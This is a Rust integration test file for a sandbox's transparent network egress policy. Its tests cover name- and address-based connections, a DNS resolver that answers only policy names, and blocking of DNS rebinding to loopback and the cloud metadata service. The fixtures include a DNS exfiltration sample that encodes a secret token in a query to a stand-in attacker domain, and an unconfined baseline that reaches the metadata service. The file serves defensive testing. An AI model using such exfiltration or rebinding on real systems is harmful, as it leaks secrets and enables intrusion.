//! Transparent egress end to end: programs that know nothing of proxies connect by name and
//! by address, the policy resolver answers only policy names (the test host's nameserver
//! records what reaches it), and every refusal is ECONNREFUSED, logged, with nothing arriving
//! at the test host.

use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use serde_json::Value;

use crate::support::{
    HOST, HOST_V6, Lab, METADATA, NAMESERVER, Nameserver, Side, Upstream, python, rule,
    transparent_on,
};

const PORT: u16 = 9000;

fn denials<'a>(run: &'a crate::support::Run, layer: &str) -> Vec<&'a Value> {
    run.events("denied", layer)
}

#[test]
fn programs_without_proxy_support_connect_by_name_and_by_address() {
    let Some(lab) = Lab::start() else { return };
    let upstream = lab.upstream(&[PORT, PORT + 1, PORT + 2]);
    let python = python();
    let network = [
        rule(
            "by_name",
            &format!("host: api.test.example, port: {PORT}"),
            &[&python],
        ),
        rule(
            "by_ip",
            &format!("host: \"{HOST}\", port: {}", PORT + 1),
            &[&python],
        ),
        rule(
            "v6",
            &format!("host: v6.test.example, port: {PORT}"),
            &[&python],
        ),
    ]
    .concat();
    let policy = lab.policy("policy.yaml", &network);
    let run = lab.sandbox(&policy).agent(&[
        "directs_get",
        &format!("api.test.example:{PORT}/by-name"),
        &format!("{HOST}:{}/by-ip", PORT + 1),
        &format!("v6.test.example:{PORT}/v6"),
        &format!("api.test.example:{}/other-port", PORT + 2),
    ]);
    if !transparent_on(&run, "seccomp ADDFD, pidfd_getfd, Landlock ABI 4") {
        return;
    }
    let results = run.json();
    assert_eq!(results[0]["status"], 200, "{run}");
    assert_eq!(results[0]["peer"][0], HOST.to_string(), "{run}");
    assert_eq!(results[1]["status"], 200, "{run}");
    assert_eq!(results[2]["status"], 200, "{run}");
    assert_eq!(results[2]["peer"][0], HOST_V6.to_string(), "{run}");
    assert_eq!(results[3]["error"], "ECONNREFUSED", "{run}");
    assert_eq!(
        upstream.requests_on(PORT),
        ["GET /by-name HTTP/1.1", "GET /v6 HTTP/1.1"]
    );
    assert_eq!(upstream.requests_on(PORT + 1), ["GET /by-ip HTTP/1.1"]);
    assert!(
        upstream.seen_on(PORT + 2).is_empty(),
        "{:?}",
        upstream.seen()
    );
    let denied = denials(&run, "network");
    assert_eq!(denied.len(), 1, "{run}");
    let line = denied[0];
    assert_eq!(line["exe"], python.as_str(), "{line}");
    assert_eq!(line["port"], PORT + 2, "{line}");
    assert!(
        line["what"]
            .as_str()
            .is_some_and(|w| w.contains("api.test.example")),
        "the names tried: {line}"
    );
    let allowed = run.events("allowed", "transparent");
    assert_eq!(allowed.len(), 3, "{run}");
}

#[test]
fn dns_answers_policy_names_only_and_refused_names_never_leave() {
    let Some(lab) = Lab::start() else { return };
    let nameserver = Nameserver::start(&lab.net, Side::Host, IpAddr::V4(NAMESERVER));
    nameserver.set("svc.test.example", &[IpAddr::V4(HOST)]);
    nameserver.set("exfil.attacker.example", &[IpAddr::V4(HOST)]);
    let upstream = lab.upstream(&[PORT]);
    let network = rule(
        "svc",
        &format!("host: \"*.test.example\", port: {PORT}"),
        &[&python()],
    );
    let policy = lab.policy("policy.yaml", &network);
    // The control: from the pod the nameserver answers the attacker's name.
    let control = lab.net.enter(Side::Pod, || {
        std::net::UdpSocket::bind("0.0.0.0:0").and_then(|s| {
            s.connect((NAMESERVER, 53))?;
            s.send(&openshell_sandbox::proxy::dns::wire::query(
                1,
                "exfil.attacker.example",
                1,
            ))
        })
    });
    control.expect("control query");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(nameserver.asked(), ["exfil.attacker.example"]);

    let run = lab.sandbox(&policy).agent(&[
        "resolve",
        "svc.test.example",
        "secret-token-1234.exfil.attacker.example",
        "exfil.attacker.example",
    ]);
    if !transparent_on(&run, "seccomp ADDFD, pidfd_getfd, Landlock ABI 4") {
        return;
    }
    let answers = run.json();
    assert_eq!(
        answers["svc.test.example"],
        serde_json::json!([HOST.to_string()]),
        "{run}"
    );
    for refused in [
        "secret-token-1234.exfil.attacker.example",
        "exfil.attacker.example",
    ] {
        assert!(answers[refused]["gaierror"].is_i64(), "{refused}: {run}");
    }
    let asked = nameserver.asked();
    assert!(
        asked.iter().skip(1).all(|n| n == "svc.test.example"),
        "only the policy name reached the nameserver: {asked:?}"
    );
    assert!(asked.len() > 1, "{asked:?}");
    let refused = denials(&run, "dns");
    assert!(
        refused.iter().any(|l| l["what"]
            == "DNS query for secret-token-1234.exfil.attacker.example"
            && l["exe"] == python().as_str()),
        "the refused name is logged with who asked: {run}"
    );
    assert!(upstream.seen().is_empty());
}

#[test]
fn a_name_rebound_to_loopback_or_metadata_never_reaches_them() {
    let Some(lab) = Lab::start() else { return };
    let nameserver = Nameserver::start(&lab.net, Side::Host, IpAddr::V4(NAMESERVER));
    nameserver.set("rebind.test.example", &[IpAddr::V4(HOST)]);
    let upstream = lab.upstream(&[80]);
    let metadata = Upstream::start(
        &lab.net,
        Side::Host,
        &[std::net::SocketAddr::new(IpAddr::V4(METADATA), 81)],
        &[],
    );
    let network = rule(
        "rebind",
        "host: rebind.test.example, ports: [80, 81]",
        &[&python()],
    );
    let policy = lab.policy("policy.yaml", &network);
    let sandbox = lab.sandbox(&policy);
    let first = sandbox.agent(&["direct_get", "rebind.test.example", "80", "/first"]);
    if !transparent_on(&first, "seccomp ADDFD, pidfd_getfd, Landlock ABI 4") {
        return;
    }
    assert_eq!(first.json()["status"], 200, "{first}");
    let rebound = [
        "rebind.test.example:81/rebound".to_owned(),
        format!("{METADATA}:81/literal"),
    ];
    let mut args = vec!["directs_get"];
    args.extend(rebound.iter().map(String::as_str));
    // The baseline: from the pod, without the sandbox, the rebound name and the literal both
    // reach the metadata service, so "it saw nothing more" below means something.
    nameserver.set("rebind.test.example", &[IpAddr::V4(METADATA)]);
    let mut argv = vec!["/usr/bin/python3", "agent.py"];
    argv.extend_from_slice(&args);
    let bare = sandbox.bare(&argv);
    let results = bare.json();
    assert_eq!(results[0]["status"], 200, "unconfined: {bare}");
    assert_eq!(results[1]["status"], 200, "unconfined: {bare}");
    let baseline = metadata.seen();
    assert_eq!(
        metadata.requests_on(81),
        ["GET /rebound HTTP/1.1", "GET /literal HTTP/1.1"],
        "unconfined: {baseline:?}"
    );
    // The name now points at the cloud metadata service, then at loopback.
    for target in [METADATA, Ipv4Addr::LOCALHOST] {
        nameserver.set("rebind.test.example", &[IpAddr::V4(target)]);
        std::thread::sleep(Duration::from_millis(1100));
        let run = sandbox.agent(&args);
        let results = run.json();
        assert!(results[0]["status"].is_null(), "{target}: {run}");
        assert!(results[1]["status"].is_null(), "{target}: {run}");
        assert!(
            !run.messages("address left out of the answer").is_empty(),
            "{target}: {run}"
        );
    }
    assert_eq!(
        metadata.seen(),
        baseline,
        "only the baseline reached the metadata service"
    );
    assert_eq!(upstream.requests_on(80), ["GET /first HTTP/1.1"]);
}
